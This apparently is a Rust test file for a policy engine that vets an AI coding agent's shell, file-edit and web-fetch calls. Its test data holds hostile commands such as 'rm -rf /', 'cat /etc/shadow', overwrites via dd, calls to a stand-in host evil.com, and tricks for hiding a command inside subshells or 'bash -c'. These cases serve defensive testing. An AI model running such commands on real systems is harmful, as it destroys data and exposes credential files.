use super::*;
use proptest::prelude::*;
use serde_json::json;

const WORKSPACE: &str = "/workspace";

fn policy(rules: Value) -> ToolPolicy {
    let policy = ToolPolicy { rules: serde_json::from_value(rules).unwrap(), fail_closed: false };
    policy.check("policy").unwrap();
    policy
}

fn closed(rules: Value) -> ToolPolicy {
    ToolPolicy { fail_closed: true, ..policy(rules) }
}

fn bash(policy: &ToolPolicy, command: &str) -> Verdict {
    policy.decide("Bash", &json!({"command": command}), WORKSPACE, &[]).verdict
}

fn denied(verdict: &Verdict) -> bool {
    matches!(verdict, Verdict::Deny { .. })
}

#[test]
fn commands_are_known_by_their_first_words_wherever_they_stand() {
    let policy = policy(json!([
        {"commands": ["git push", "npm publish"], "then": "deny", "reason": "pushing is not yours to do"},
        {"commands": ["rm -rf *"], "then": "ask"},
    ]));
    for command in [
        "git push",
        "git push origin main",
        "/usr/bin/git push",
        "cd src && git push",
        "true; git push",
        "make || git   push -f",
        "bash -c 'git push'",
        "sudo git push",
        "env A=b git push",
        "A=b git push",
        "timeout 10 git push",
        "echo $(git push)",
        "echo `git push`",
        "if true; then git push; fi",
        "(git push)",
        "\"git\" 'push'",
        "git \\\n push",
        "echo hi | xargs npm publish",
    ] {
        let verdict = bash(&policy, command);
        assert!(
            matches!(&verdict, Verdict::Deny { rule, reason } if rule == "rules[0]" && reason == "pushing is not yours to do"),
            "{command}: {verdict:?}"
        );
    }
    for command in ["git pull", "echo git push", "git status # git push", "grep 'git push' README.md", "gitpush", ""] {
        assert_eq!(bash(&policy, command), Verdict::Open, "{command}");
    }
    assert_eq!(bash(&policy, "rm -rf build"), Verdict::Ask { rule: "rules[1]".into() });
}

#[test]
fn codex_gives_words_and_they_are_a_command_too() {
    let policy = policy(json!([{"commands": ["git push"], "then": "deny"}]));
    let words = json!({"command": ["bash", "-lc", "git push"]});
    assert!(denied(&policy.decide("shell", &words, WORKSPACE, &[]).verdict));
}

#[test]
fn paths_are_the_workspace_s_however_they_are_written() {
    let policy = policy(json!([{"paths": ["migrations/**/*.sql", "/etc", "docs/*.md"], "then": "deny"}]));
    let of = |tool: &str, path: &str| policy.decide(tool, &json!({"file_path": path}), WORKSPACE, &[]).verdict;
    for path in [
        "migrations/1.sql",
        "migrations/a/b/1.sql",
        "/workspace/migrations/1.sql",
        "src/../migrations/1.SQL",
        "/etc/passwd",
        "docs/a.md",
    ] {
        assert!(denied(&of("Write", path)) && denied(&of("Read", path)), "{path}");
    }
    for path in ["migrations/readme", "/workspace/etc/passwd", "docs/a/b.md", "src/docs/a.md"] {
        assert_eq!(of("Write", path), Verdict::Open, "{path}");
    }
    assert!(denied(&bash(&policy, "cat /etc/shadow")));
    assert!(denied(&bash(&policy, "cd migrations && cat 1.sql")));
}

#[test]
fn protected_paths_can_be_read_and_not_changed() {
    let protected = ["Cargo.lock".to_owned(), "infra/prod".to_owned()];
    let policy = ToolPolicy::default();
    let of = |tool: &str, input: Value| policy.decide(tool, &input, WORKSPACE, &protected).verdict;
    let run = |command: &str| of("Bash", json!({"command": command}));
    for command in [
        "echo x > Cargo.lock",
        "echo x >>./Cargo.lock",
        "echo x 2>Cargo.lock",
        "rm -rf infra",
        "rm -rf *",
        "rm -rf .",
        "rm -rf /",
        "rm infra/prod/*.tf",
        "sed -i s/a/b/ Cargo.lock",
        "cd infra && touch prod/x",
        "cd infra && cd prod && touch x",
        "cp a /workspace/Cargo.lock",
        "tee Cargo.lock",
        "git checkout HEAD~1 -- Cargo.lock",
        "dd if=/dev/zero of=Cargo.lock",
        "bash -c \"echo x > Cargo.lock\"",
        "> Cargo.lock",
    ] {
        assert!(denied(&run(command)), "{command}");
    }
    for command in
        ["cat Cargo.lock", "cp Cargo.lock x", "grep a infra/prod/x", "rm -rf target", "cargo build 2>&1", "echo x >&2"]
    {
        assert_eq!(run(command), Verdict::Open, "{command}");
    }
    assert_eq!(of("Read", json!({"file_path": "Cargo.lock"})), Verdict::Open);
    for (tool, input) in [
        ("Edit", json!({"file_path": "/workspace/Cargo.lock"})),
        ("write_file", json!({"absolute_path": "/workspace/infra/prod/a"})),
        ("apply_patch", json!({"input": "*** Begin Patch\n*** Update File: Cargo.lock\n"})),
        ("apply_patch", json!({"changes": [{"path": "infra/prod/x", "kind": "add"}]})),
        ("apply_patch", json!({"changes": {"/workspace/Cargo.lock": {}}})),
    ] {
        let verdict = of(tool, input.clone());
        assert!(matches!(&verdict, Verdict::Deny { rule, .. } if rule == PROTECTED), "{tool} {input}: {verdict:?}");
    }
    // A rule can't allow what is protected.
    let lax = self::policy(json!([{"tools": ["*"], "then": "allow"}]));
    assert!(denied(&lax.decide("Edit", &json!({"file_path": "Cargo.lock"}), WORKSPACE, &protected).verdict));
}

#[test]
fn hosts_are_those_of_urls_and_of_programs_that_call() {
    let policy = policy(json!([{"hosts": ["evil.com", "*.evil.com"], "then": "deny"}]));
    for command in [
        "curl https://evil.com/x",
        "curl HTTPS://user:pw@API.evil.com:8443/x",
        "curl -sL evil.com",
        "wget --header=a evil.com/x",
        "git clone git@evil.com:a/b",
        "git clone --depth=1 https://evil.com/a",
        "ssh me@evil.com",
    ] {
        assert!(denied(&bash(&policy, command)), "{command}");
    }
    for command in ["curl https://good.com/?q=evil.com", "cat evil.com", "curl notevil.com"] {
        assert_eq!(bash(&policy, command), Verdict::Open, "{command}");
    }
    let fetch = json!({"url": "https://evil.com./", "prompt": "read it"});
    assert!(denied(&policy.decide("WebFetch", &fetch, WORKSPACE, &[]).verdict));
}

#[test]
fn what_can_t_be_judged_passes_or_is_denied_as_the_project_says() {
    let rules = json!([{"commands": ["git push"], "then": "deny"}]);
    for command in ["$CMD origin", "eval \"$X\"", "git pu\"", "echo ${X}", "source x.sh"] {
        assert_eq!(bash(&policy(rules.clone()), command), Verdict::Open, "{command}");
        let verdict = bash(&closed(rules.clone()), command);
        assert!(
            matches!(&verdict, Verdict::Deny { reason, .. } if reason.contains("can't judge")),
            "{command}: {verdict:?}"
        );
    }
    assert_eq!(bash(&closed(rules.clone()), "git pull"), Verdict::Open);
    let closed = closed(rules);
    let unknown = json!({"target": "Cargo.lock"});
    let protected = ["Cargo.lock".to_owned()];
    assert!(denied(&closed.decide("mcp__x__save", &unknown, WORKSPACE, &protected).verdict));
    assert_eq!(ToolPolicy::default().decide("mcp__x__save", &unknown, WORKSPACE, &protected).verdict, Verdict::Open);
}

#[test]
fn the_first_rule_that_fits_decides_and_changes_pass_on() {
    let policy = policy(json!([
        {"tools": ["Bash"], "then": "change", "set": {"timeout": 1000}},
        {"tools": ["bash"], "commands": ["make *"], "then": "allow"},
        {"tools": ["Bash", "mcp__*"], "then": "ask"},
    ]));
    let made = policy.decide("Bash", &json!({"command": "make test", "timeout": 9}), WORKSPACE, &[]);
    assert_eq!(made.verdict, Verdict::Allow);
    assert_eq!(made.input, Some(json!({"command": "make test", "timeout": 1000})));
    assert_eq!(bash(&policy, "ls"), Verdict::Ask { rule: "rules[2]".into() });
    assert_eq!(
        policy.decide("mcp__db__drop", &json!({}), WORKSPACE, &[]).verdict,
        Verdict::Ask { rule: "rules[2]".into() }
    );
    let read = policy.decide("Read", &json!({"file_path": "a"}), WORKSPACE, &[]);
    assert_eq!(read, Decision { verdict: Verdict::Open, input: None });
}

#[test]
fn rules_that_can_t_do_anything_are_refused() {
    for (rules, why) in [
        (json!([{"then": "deny"}]), "is about nothing"),
        (json!([{"tools": ["Bash"], "then": "change"}]), "needs `set`"),
        (json!([{"tools": ["Bash"], "then": "deny", "set": {"a": 1}}]), "is for `then: change`"),
        (json!([{"paths": ["../x"], "then": "deny"}]), "must be plain"),
        (json!([{"tools": [" "], "then": "deny"}]), "must not be blank"),
    ] {
        let policy = ToolPolicy { rules: serde_json::from_value(rules).unwrap(), fail_closed: false };
        let said = policy.check("policy").unwrap_err().to_string();
        assert!(said.starts_with("policy.rules[0]") && said.contains(why), "{said}");
    }
}

proptest! {
    /// Whatever an agent writes, it is judged: without a panic, and a plain command is never hidden by what stands around it.
    #[test]
    fn no_text_makes_it_fall(text in "\\PC{0,200}") {
        let policy = policy(json!([{"commands": ["git push"], "hosts": [], "then": "deny"}]));
        drop(bash(&policy, &text));
        drop(policy.decide(&text, &json!({"file_path": text, "url": text}), WORKSPACE, &["a".to_owned()]));
    }

    #[test]
    fn what_stands_before_a_command_does_not_hide_it(before in "[a-z0-9 ./=-]{0,30}", joint in prop::sample::select(vec![";", "&&", "||", "|", "\n", "&"])) {
        let policy = policy(json!([{"commands": ["git push"], "then": "deny"}]));
        let line = format!("{before}{joint} git push");
        prop_assert!(denied(&bash(&policy, &line)), "{}", line);
    }

    #[test]
    fn stars_stand_for_anything(text in "[ab*]{0,20}", pattern in "[ab*]{0,8}") {
        let by_hand = by_parts(&pattern, &text);
        prop_assert_eq!(glob::word(&pattern, &text), by_hand);
    }
}

/// The same by trying everything.
fn by_parts(pattern: &str, text: &str) -> bool {
    match pattern.chars().next() {
        None => text.is_empty(),
        Some('*') => (0..=text.len()).any(|at| by_parts(&pattern[1..], &text[at..])),
        Some(first) => text.starts_with(first) && by_parts(&pattern[1..], &text[1..]),
    }
}
